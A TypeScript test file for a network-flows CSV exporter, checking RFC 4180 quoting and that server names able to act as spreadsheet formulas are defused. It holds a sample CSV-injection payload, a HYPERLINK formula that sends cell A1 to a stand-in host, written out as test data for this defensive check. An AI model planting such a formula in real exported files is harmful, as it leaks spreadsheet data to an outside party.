// Tests for the flows CSV: quoting, and names from the wire that a spreadsheet would run.

import assert from "node:assert/strict";
import { flowsCsv } from "./csv.ts";
import { sampleFlow } from "../tests/helpers/sample_flow.ts";

/** The server_name cell of the one row of `csv`. */
function nameCell(csv: string): string {
  const [header, row] = csv.split("\r\n");
  const at = header.split(",").indexOf("server_name");
  // The cells before server_name in sampleFlow() hold no commas.
  return row.split(",").slice(at, row.split(",").length - 2).join(",");
}

Deno.test("flowsCsv() quotes commas and quotes as RFC 4180 says", () => {
  assert.equal(nameCell(flowsCsv([sampleFlow({ server_name: 'a,"b"' })])), '"a,""b"""');
  assert.equal(
    nameCell(flowsCsv([sampleFlow({ server_name: "www.example.com" })])),
    "www.example.com",
  );
});

Deno.test("flowsCsv() defuses a server name a spreadsheet would take for a formula", () => {
  // Any client chooses its SNI, Host or DNS query: this one has no space, so it is kept.
  const evil = '=HYPERLINK("http://x.example/?"&A1,"y")';
  const cell = nameCell(flowsCsv([sampleFlow({ server_name: evil, app: "TLS", tunnel: null })]));
  assert.ok(!/^"?[=+\-@]/.test(cell), `cell starts a formula: ${cell}`);
  assert.ok(cell.includes("HYPERLINK"), "the name is still there to read");
  for (const lead of ["+", "-", "@"]) {
    const c = nameCell(flowsCsv([sampleFlow({ server_name: `${lead}1+1`, tunnel: null })]));
    assert.ok(!/^"?[=+\-@]/.test(c), `cell starts a formula: ${c}`);
  }
});
